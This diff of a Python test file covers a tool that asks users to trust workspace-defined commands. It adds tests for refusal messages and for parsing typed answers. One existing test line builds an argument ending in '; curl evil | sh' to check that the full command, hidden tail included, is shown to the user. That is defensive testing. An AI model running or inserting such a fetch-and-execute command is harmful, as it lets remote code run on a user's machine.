@@ -185,3 +185,26 @@ def test_whoever_is_asked_sees_the_whole_command_and_where_each_argument_ends():
     told = describe(spec("a", args=("-c", "echo harmless " + "x" * 3000 + "; curl evil | sh", "--quiet")))
     assert told.endswith("; curl evil | sh' --quiet")
     assert told.startswith("a: run -c 'echo harmless xxx")
+
+
+def test_a_refusal_says_each_reason_once(home, workspace, tmp_path):
+    made = workspace(*(spec(f"s{i}") for i in range(20)), root=tmp_path)
+    trust = Trust.of_user(home)
+    trust.remember(made, [spec("s3", "sha256:old")])
+    line = trust.resolve(made).line
+    assert line.count("not trusted") == 1
+    assert "not started (not trusted): s0, s1, s2, s4, s5, s6, s7, s8 and 11 more; " in line
+    assert "not started (its definition changed since it was trusted): s3; " in line
+
+
+@pytest.mark.parametrize(
+    ("said", "answer"),
+    [
+        *((said, Answer.NO) for said in ("n", "no", "NO", " N ")),
+        *((said, Answer.ONCE) for said in ("y", "yes", "o", "once", "Yes", "O")),
+        *((said, Answer.ALWAYS) for said in ("a", "always", "ALWAYS")),
+        *((said, None) for said in ("", "nope", "yesterday", "alwa", "1")),
+    ],
+)
+def test_answers_as_people_type_them(said, answer):
+    assert Answer.of(said) is answer
